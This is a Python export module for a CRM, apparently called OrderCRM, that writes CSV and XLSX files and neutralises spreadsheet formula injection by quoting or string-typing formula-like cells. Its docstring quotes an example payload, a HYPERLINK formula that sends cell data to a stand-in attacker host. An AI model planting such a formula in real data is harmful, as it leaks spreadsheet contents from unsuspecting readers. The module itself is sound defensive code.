"""Every CSV and XLSX file OrderCRM writes, so none can be turned against its reader.

A spreadsheet program runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return before one of them) as a formula: a customer named
``=HYPERLINK("http://evil.example?"&A1,"click")`` would leak the sheet or run a command on the
reader's machine (CSV/formula injection, OWASP). The rule, applied to every text cell of every
export:

- CSV: such a text cell gets a leading single quote (OWASP's recommendation), which the
  spreadsheet shows and never evaluates;
- XLSX: every text cell is written as a string (``data_type 's'``), never as a formula; a cell
  that would have looked like one is also marked ``quotePrefix`` so that editing it in Excel
  keeps it text.

Numbers (``int``, ``float``, ``Decimal``) stay numbers: a negative amount is ``-12.50`` in
CSV and a numeric cell in XLSX. Dates stay dates in XLSX and ISO text in CSV.
"""

from __future__ import annotations

import csv
import datetime
import io
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

_NUMBERS = (int, float, Decimal)


def is_formula_like(text: str) -> bool:
    """True for text a spreadsheet program could run as a formula."""
    return text.startswith(FORMULA_TRIGGERS)


def csv_cell(value):
    """One value as a CSV cell: numbers unchanged, formula-like text behind a single quote."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, _NUMBERS):
        return value
    if isinstance(value, datetime.datetime):
        return _plain_datetime(value).isoformat(sep=" ", timespec="seconds")
    if isinstance(value, datetime.date):
        return value.isoformat()
    text = str(value)
    return "'" + text if is_formula_like(text) else text


CHUNK_BYTES = 64 * 1024
XLSX_MAX_ROWS = 1_048_576  # a sheet's last row; a longer export is cut there (header included)


def _plain_datetime(value: datetime.datetime) -> datetime.datetime:
    """An aware datetime as the wall-clock time of the current time zone, without a zone
    (spreadsheets have none; openpyxl refuses aware values)."""
    if value.tzinfo is None:
        return value
    from django.utils import timezone

    return timezone.localtime(value).replace(tzinfo=None)


def stream_csv(header: Sequence, rows: Iterable[Sequence]) -> Iterator[bytes]:
    """UTF-8 CSV with a byte-order mark (so spreadsheet programs read Chinese names), every
    cell through :func:`csv_cell`, as chunks of about 64 KB: memory does not grow with rows."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    buffer.write("\ufeff")
    writer.writerow([csv_cell(v) for v in header])
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
        if buffer.tell() >= CHUNK_BYTES:
            yield buffer.getvalue().encode()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue().encode()


def write_csv(header: Sequence, rows: Iterable[Sequence]) -> bytes:
    """:func:`stream_csv` as one ``bytes``."""
    return b"".join(stream_csv(header, rows))


def stream_xlsx(
    header: Sequence,
    rows: Iterable[Sequence],
    *,
    title: str = "",
    number_formats: dict[int, str] | None = None,
) -> Iterator[bytes]:
    """An XLSX workbook of one sheet: a header row, then ``rows``, as chunks. Text is always
    a string cell (never a formula); numbers are numeric cells (``Decimal`` stays exact), with
    ``number_formats`` (0-based column → Excel format) applied to the numbers of a column;
    dates and datetimes are date cells. openpyxl's write-only mode writes each row to a
    temporary file as it comes (inline strings, no shared-string table), so memory does not
    grow with rows; the finished file is then read back in chunks."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title[:31] or "Sheet")
    sheet.freeze_panes = "A2"
    formats = number_formats or {}

    def cell(value, column: int | None):
        if isinstance(value, datetime.datetime):
            value = _plain_datetime(value)
        if value is None or isinstance(value, (bool, datetime.date, *_NUMBERS)):
            made = WriteOnlyCell(sheet, value=value)
            if column in formats and isinstance(value, _NUMBERS) and not isinstance(value, bool):
                made.number_format = formats[column]
            return made
        # Control characters XLSX cannot hold would make openpyxl refuse the whole file.
        text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
        made = WriteOnlyCell(sheet, value=text)
        # Assigning text that starts with "=" makes openpyxl write a formula: force a string.
        made.data_type = "s"
        if is_formula_like(text):
            made.quotePrefix = True
        return made

    sheet.append([cell(v, None) for v in header])
    for count, row in enumerate(rows, start=2):
        if count > XLSX_MAX_ROWS:
            break
        sheet.append([cell(v, i) for i, v in enumerate(row)])
    with tempfile.TemporaryFile() as file:
        book.save(file)
        file.seek(0)
        while chunk := file.read(CHUNK_BYTES):
            yield chunk


def write_xlsx(
    header: Sequence,
    rows: Iterable[Sequence],
    *,
    title: str = "",
    number_formats: dict[int, str] | None = None,
) -> bytes:
    """:func:`stream_xlsx` as one ``bytes``."""
    return b"".join(stream_xlsx(header, rows, title=title, number_formats=number_formats))


def read_xlsx_rows(data: bytes):
    """The first sheet's rows of the workbook in ``data``, as tuples of cell values (formulas
    read as their cached values, never evaluated). Raises ``ValueError`` for a file that is not
    a workbook. Reading lives here too, so that every spreadsheet library call is in one file."""
    from openpyxl import load_workbook

    try:
        book = load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    except Exception as error:  # openpyxl raises many kinds for a broken or foreign file
        raise ValueError("not a readable workbook") from error
    return book.active.iter_rows(values_only=True)
